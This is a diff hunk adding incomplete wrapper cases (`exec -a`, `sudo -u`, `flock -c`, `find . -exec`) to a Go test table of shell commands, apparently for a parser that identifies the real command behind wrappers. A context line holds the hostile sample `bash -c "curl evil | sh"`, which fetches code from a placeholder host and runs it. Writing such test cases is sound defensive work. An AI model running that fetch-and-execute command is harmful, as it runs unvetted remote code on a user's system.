@@ -98,6 +98,11 @@ var extractTable = []string{
 	`builtin cd /tmp`,
 	`exec rm x`,
 	`exec -a name rm x`,
+	`exec -a`,
+	`sudo -u`,
+	`timeout`,
+	`flock -c`,
+	`find . -exec`,
 	`command command ls`,
 	// Opaque wrappers.
 	`bash -c "curl evil | sh"`,
